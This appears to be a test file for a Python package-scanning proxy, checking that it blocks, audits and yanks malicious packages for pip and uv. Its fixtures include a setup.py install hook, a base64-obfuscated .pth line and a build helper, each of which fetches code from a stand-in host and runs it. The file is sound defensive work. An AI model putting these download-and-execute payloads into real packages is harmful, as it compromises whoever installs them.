//! The scanner in the proxy, end to end: crafted malicious packages are blocked for pip and uv
//! under the repo's default policy.yaml, a risk acceptance lets exactly that version through
//! until it expires, and every decision is in the audit log.

mod common;
use common::*;
use std::process::Command;

/// A setup.py that overrides `install` to download and run code (never executed here:
/// the test sdists build with an in-tree backend that ignores setup.py).
const HOOK_SETUP_PY: &str = r#"import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        payload = urllib.request.urlopen("http://203.0.113.7/stage2.py").read()
        exec(payload)
        install.run(self)


setup(name="demo-hook", version="1.0", cmdclass={"install": PostInstall})
"#;

const PTH_EXEC: &str = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoIik='))\n";

fn repo_policy() -> String {
    std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.yaml")).unwrap()
}

fn pipgate_cli(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_pipgate")).args(args).output().unwrap()
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn wait_for(what: &str, mut f: impl FnMut() -> bool) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    while !f() {
        assert!(std::time::Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(std::time::Duration::from_millis(150));
    }
}

#[test]
fn install_hook_sdist_is_blocked_and_an_acceptance_lets_exactly_that_version_through_until_it_expires() {
    let idx = FakeIndex::start(Format::Json);
    let v10 = sdist("demo-hook", "1.0", &[("setup.py", HOOK_SETUP_PY)]);
    let v10_sha = sha256_hex(&v10.bytes);
    idx.add_dist("demo-hook", v10);
    idx.add_dist("demo-hook", sdist("demo-hook", "1.1", &[("setup.py", &HOOK_SETUP_PY.replace("1.0", "1.1"))]));
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, repo_policy()).unwrap();
    let data = dir.path().join("data");
    let gate = Pipgate::start_with(&idx.url(), &policy, &data);

    // Blocked for pip: the status line names pipgate, the finding and the rule.
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = stderr(&out);
    assert!(err.contains("403 Client Error: Blocked by pipgate: execution.download-and-execute"), "{err}");
    // Blocked for uv: the problem details name the file, the finding and how to get an acceptance.
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = stderr(&out);
    assert!(err.contains("demo_hook-1.0.tar.gz") || err.contains("demo-hook-1.0.tar.gz"), "{err}");
    assert!(err.contains("setup.py") && err.contains(&format!("pipgate policy accept {v10_sha}")), "{err}");

    // The block is audited with the finding and the rule.
    let audit = gate.audit();
    // (Pre-scan may have audited the page withholding another version first: find this file's.)
    let block =
        audit.iter().find(|r| r["decision"] == "block" && r["sha256"] == v10_sha.as_str()).expect("a block line");
    assert!(block["findings"].as_array().unwrap().iter().any(|f| f == "execution.install-hook"), "{block}");
    assert_eq!(block["sha256"], v10_sha.as_str());

    // The security team asks pipgate for the acceptance and pastes it.
    let out = pipgate_cli(&[
        "policy",
        "accept",
        &v10_sha,
        "--policy",
        policy.to_str().unwrap(),
        "--data-dir",
        data.to_str().unwrap(),
        "--upstream",
        &idx.url(),
    ]);
    assert!(out.status.success(), "{}", show(&out));
    let snippet = String::from_utf8(out.stdout).unwrap();
    assert!(snippet.contains("execution.install-hook") && snippet.contains(&v10_sha), "{snippet}");
    std::fs::write(&policy, format!("{}{snippet}", repo_policy())).unwrap();

    // Hot reload: 1.0 installs now (pip and uv), 1.1 with the same hook stays blocked.
    wait_for("the acceptance to load", || gate.log().matches("policy reloaded").count() >= 1);
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
    assert!(out.status.success(), "{}", show(&out));
    assert_eq!(venv.run("import demo_hook; print(demo_hook.VERSION)"), "1.0");
    let venv = Venv::new();
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
    assert!(out.status.success(), "{}", show(&out));
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-hook==1.1"]);
    assert!(!out.status.success(), "1.1 must stay blocked: {}", show(&out));
    let served = gate.audit().into_iter().find(|r| r["decision"] != "block" && r["filename"] == "demo-hook-1.0.tar.gz");
    let served = served.expect("a served line for 1.0");
    assert!(!served["acceptances"].as_array().unwrap().is_empty(), "{served}");

    // Expired: the same acceptance with a past expiry stops applying.
    let expired =
        regex::Regex::new(r#"expires: "[^"]+""#).unwrap().replace(&snippet, "expires: \"2020-01-01T00:00:00Z\"");
    std::fs::write(&policy, format!("{}{expired}", repo_policy())).unwrap();
    wait_for("the expired acceptance to load", || gate.log().matches("policy reloaded").count() >= 2);
    let out = Venv::new().pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
    assert!(!out.status.success(), "expired acceptance must not apply: {}", show(&out));
    let last = gate.audit().into_iter().rev().find(|r| r["decision"] == "block").unwrap();
    let reasons = serde_json::to_string(&last["reasons"]).unwrap();
    assert!(reasons.contains("expired"), "{reasons}");
}

#[test]
fn pth_exec_wheel_is_blocked_and_a_benign_lookalike_installs() {
    let idx = FakeIndex::start(Format::Html);
    idx.add_dist("demo-pth", wheel("demo-pth", "1.0", &[], &[("demo_pth_init.pth", PTH_EXEC)]));
    idx.add_dist("demo-paths", wheel("demo-paths", "1.0", &[], &[("demo_paths.pth", "./vendor\n")]));
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, repo_policy()).unwrap();
    let gate = Pipgate::start_with(&idx.url(), &policy, &dir.path().join("data"));
    let venv = Venv::new();
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-pth"]);
    assert!(!out.status.success(), "{}", show(&out));
    assert!(stderr(&out).contains("403"), "{}", show(&out));
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-paths"]);
    assert!(out.status.success(), "{}", show(&out));
}

#[test]
fn scan_command_reports_in_text_json_and_sarif_with_exit_codes() {
    let dir = tempfile::tempdir().unwrap();
    let bad = sdist("demo-hook", "1.0", &[("setup.py", HOOK_SETUP_PY)]);
    let good = wheel("demo-good", "1.0", &[], &[]);
    let bad_path = dir.path().join(&bad.filename);
    let good_path = dir.path().join(&good.filename);
    std::fs::write(&bad_path, &bad.bytes).unwrap();
    std::fs::write(&good_path, &good.bytes).unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, repo_policy()).unwrap();
    let p = policy.to_str().unwrap();

    let out = pipgate_cli(&["scan", good_path.to_str().unwrap(), "--policy", p]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));

    let out = pipgate_cli(&["scan", bad_path.to_str().unwrap(), "--policy", p]);
    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("execution.install-hook") && text.contains("setup.py"), "{text}");

    let out = pipgate_cli(&["scan", bad_path.to_str().unwrap(), "--policy", p, "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let ids: Vec<&str> = json["findings"].as_array().unwrap().iter().map(|f| f["detector"].as_str().unwrap()).collect();
    assert!(ids.contains(&"execution.install-hook"), "{ids:?}");

    let out = pipgate_cli(&["scan", bad_path.to_str().unwrap(), "--policy", p, "--format", "sarif"]);
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    assert!(sarif["runs"][0]["results"].as_array().unwrap().iter().any(|r| r["ruleId"] == "execution.install-hook"));

    let out = pipgate_cli(&["scan", "/no/such/file.whl", "--policy", p]);
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
}

#[test]
fn annotated_findings_show_on_the_download_and_on_both_page_formats() {
    let idx = FakeIndex::start(Format::Json);
    let code = "import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n";
    idx.add_dist("demo-proc", wheel("demo-proc", "1.0", &[], &[("demo_proc/run.py", code)]));
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, "defaults:\n  severity: { low: annotate }\n").unwrap();
    let gate = Pipgate::start_with(&idx.url(), &policy, &dir.path().join("data"));
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-proc"]);
    assert!(out.status.success(), "{}", show(&out));

    let c = http();
    let page_url = format!("{}demo-proc/", gate.url);
    let page: serde_json::Value =
        c.get(&page_url).header("accept", "application/vnd.pypi.simple.v1+json").send().unwrap().json().unwrap();
    let ann = &page["files"][0]["_pipgate"];
    assert_eq!(ann["decision"], "annotate", "{page}");
    assert!(ann["findings"].as_array().unwrap().iter().any(|f| f["id"] == "execution.creates-process"), "{ann}");
    let report = ann["report"].as_str().unwrap();
    let text = c.get(format!("{page_url}{report}")).send().unwrap().text().unwrap();
    assert!(text.contains("Creates a process.") && text.contains("demo_proc/run.py:4"), "{text}");

    let html = c.get(&page_url).header("accept", "text/html").send().unwrap().text().unwrap();
    assert!(
        html.contains("data-pipgate-decision=\"annotate\"") && html.contains("execution.creates-process"),
        "{html}"
    );

    let file_url = format!("{page_url}{}", page["files"][0]["url"].as_str().unwrap());
    let resp = c.get(file_url).send().unwrap();
    assert_eq!(resp.headers()["x-pipgate-decision"], "annotate");
    assert!(resp.headers()["x-pipgate-findings"].to_str().unwrap().contains("execution.creates-process"));
    let audit = gate.audit();
    assert!(audit.iter().any(|r| r["decision"] == "annotate" && r["filename"] == "demo_proc-1.0-py3-none-any.whl"));
}

fn scrub(text: &str, gate: &Pipgate) -> String {
    let mut out = text.replace(&gate.base(), "http://PIPGATE");
    for (re, to) in [
        (r"[0-9a-f]{64}", "<sha256>"),
        (r"[0-9a-f]{8}-[0-9a-f]+", "<request-id>"),
        (r"/tmp/[^\s:'\x22]+", "<tmp>"),
        (r"in [0-9.]+m?s", "in <time>"),
    ] {
        out = regex::Regex::new(re).unwrap().replace_all(&out, to).into_owned();
    }
    out.lines().map(str::trim_end).filter(|l| !l.trim().is_empty()).collect::<Vec<_>>().join("\n")
}

#[test]
fn a_version_blocked_by_its_findings_is_yanked_so_resolvers_fall_back_and_pins_see_why() {
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("demo-yank", sdist("demo-yank", "1.0", &[]));
    idx.add_dist(
        "demo-yank",
        sdist("demo-yank", "2.0", &[("setup.py", &HOOK_SETUP_PY.replace("demo-hook", "demo-yank"))]),
    );
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, repo_policy()).unwrap();
    let gate = Pipgate::start_with(&idx.url(), &policy, &dir.path().join("data"));

    // First contact: 2.0 is scanned and blocked.
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-yank==2.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    // From now on the page marks 2.0 yanked: unpinned installs fall back to 1.0.
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-yank"]);
    assert!(out.status.success(), "{}", show(&out));
    assert_eq!(venv.run("import demo_yank; print(demo_yank.VERSION)"), "1.0");
    let venv = Venv::new();
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-yank"]);
    assert!(out.status.success(), "{}", show(&out));
    assert_eq!(venv.run("import demo_yank; print(demo_yank.VERSION)"), "1.0");
    // The page says why 2.0 is yanked.
    let page: serde_json::Value = http()
        .get(format!("{}demo-yank/", gate.url))
        .header("accept", "application/vnd.pypi.simple.v1+json")
        .send()
        .unwrap()
        .json()
        .unwrap();
    let v2 = page["files"].as_array().unwrap().iter().find(|f| f["filename"] == "demo-yank-2.0.tar.gz").unwrap();
    assert!(v2["yanked"].as_str().unwrap().starts_with("blocked by pipgate: "), "{v2}");
    assert_eq!(v2["_pipgate"]["decision"], "block");
    // A pin still reaches the file (PEP 592) and gets the 403 that says why.
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-yank==2.0"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("Blocked by pipgate: execution.download-and-execute"), "{err}");
    insta::assert_snapshot!("pip_yanked_by_policy", scrub(&err, &gate));
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-yank==2.0"]);
    assert!(!out.status.success());
    insta::assert_snapshot!("uv_yanked_by_policy", scrub(&stderr(&out), &gate));
}

#[test]
fn policy_check_and_explain_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, repo_policy()).unwrap();
    let out = pipgate_cli(&["policy", "check", policy.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("policy OK"));

    let broken = dir.path().join("broken.yaml");
    std::fs::write(&broken, repo_policy().replace("min_age: 3d", "min_age: soon")).unwrap();
    let out = pipgate_cli(&["policy", "check", broken.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    let line = repo_policy().lines().position(|l| l.contains("min_age: 3d")).unwrap() + 1;
    assert!(text.contains(&format!("broken.yaml:{line}")) && text.contains("cooldown.min_age"), "{text}");

    let bad = sdist("demo-hook", "1.0", &[("setup.py", HOOK_SETUP_PY)]);
    let path = dir.path().join(&bad.filename);
    std::fs::write(&path, &bad.bytes).unwrap();
    let out = pipgate_cli(&["policy", "explain", path.to_str().unwrap(), "--policy", policy.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("block") && text.contains("install-time-high") && text.contains("execution.install-hook"),
        "{text}"
    );
}

/// Behaviour classes judged at package level, through the whole engine and the shipped
/// policy: a wheel that installs a `pip` command of its own, or a `sitecustomize.py` that
/// runs at every interpreter start, is blocked; a wheel whose commands are its own is not.
#[test]
fn startup_hijacks_are_blocked_by_the_shipped_policy() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, repo_policy()).unwrap();
    let p = policy.to_str().unwrap();
    let scan = |dist: &Dist| {
        let path = dir.path().join(&dist.filename);
        std::fs::write(&path, &dist.bytes).unwrap();
        let out = pipgate_cli(&["scan", path.to_str().unwrap(), "--policy", p, "--format", "json"]);
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let hijacks: Vec<String> = json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["detector"] == "execution.startup-hijack")
            .flat_map(|f| {
                f["evidence"].as_array().unwrap().iter().map(|e| e["indicator"].as_str().unwrap().to_string())
            })
            .collect();
        (out.status.code(), hijacks)
    };

    let shadow = wheel(
        "demo-shadow",
        "1.0",
        &[],
        &[("demo_shadow-1.0.dist-info/entry_points.txt", "[console_scripts]\npip = demo_shadow.cli:main\n")],
    );
    assert_eq!(scan(&shadow), (Some(1), vec!["entry point shadows `pip`".to_string()]));

    let startup = wheel("demo-startup", "1.0", &[], &[("sitecustomize.py", "import demo_startup\n")]);
    let (code, hijacks) = scan(&startup);
    assert_eq!(code, Some(1));
    assert_eq!(hijacks, vec!["ships sitecustomize.py (runs at every interpreter start)".to_string()]);

    let own = wheel(
        "demo-tool",
        "1.0",
        &[],
        &[("demo_tool-1.0.dist-info/entry_points.txt", "[console_scripts]\ndemo-tool = demo_tool.cli:main\n")],
    );
    assert_eq!(scan(&own), (Some(0), vec![]));
}

/// A payload moved out of setup.py into a helper under `tools/` (judged by its path alone as
/// maintainer tooling) runs at install all the same when setup.py imports it: pipgate judges the
/// helper as install-time code, so pip and uv are refused and the reason names the helper; the
/// same tree with a clean helper installs.
#[test]
fn a_setup_py_that_imports_a_helper_from_tools_is_judged_by_what_the_helper_does() {
    const SETUP: &str = "import os, sys\nfrom setuptools import setup\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'tools'))\nimport build_helpers\nsetup(name='NAME', version=build_helpers.VERSION)\n";
    const EVIL: &str = "VERSION = '1.0'\nimport os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n";
    const CLEAN: &str = "VERSION = '1.0'\n";
    let idx = FakeIndex::start(Format::Json);
    let evil = sdist(
        "demo-reach",
        "1.0",
        &[("setup.py", &SETUP.replace("NAME", "demo-reach")), ("tools/build_helpers.py", EVIL)],
    );
    let evil_sha = sha256_hex(&evil.bytes);
    idx.add_dist("demo-reach", evil);
    let clean = sdist(
        "demo-reach-ok",
        "1.0",
        &[("setup.py", &SETUP.replace("NAME", "demo-reach-ok")), ("tools/build_helpers.py", CLEAN)],
    );
    idx.add_dist("demo-reach-ok", clean);
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, repo_policy()).unwrap();
    let gate = Pipgate::start_with(&idx.url(), &policy, &dir.path().join("data"));

    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-reach==1.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    assert!(stderr(&out).contains("403 Client Error: Blocked by pipgate: "), "{}", show(&out));
    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-reach==1.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = stderr(&out);
    assert!(err.contains("tools/build_helpers.py"), "the reason names the helper: {err}");

    let block = gate.audit().into_iter().find(|r| r["decision"] == "block" && r["sha256"] == evil_sha.as_str());
    let block = block.expect("the block is audited");
    assert!(block["findings"].as_array().unwrap().iter().any(|f| f == "execution.download-and-execute"), "{block}");

    let out = Venv::new().pip(&["install", "--index-url", &gate.url, "demo-reach-ok==1.0"]);
    assert!(out.status.success(), "the clean twin installs: {}", show(&out));
}
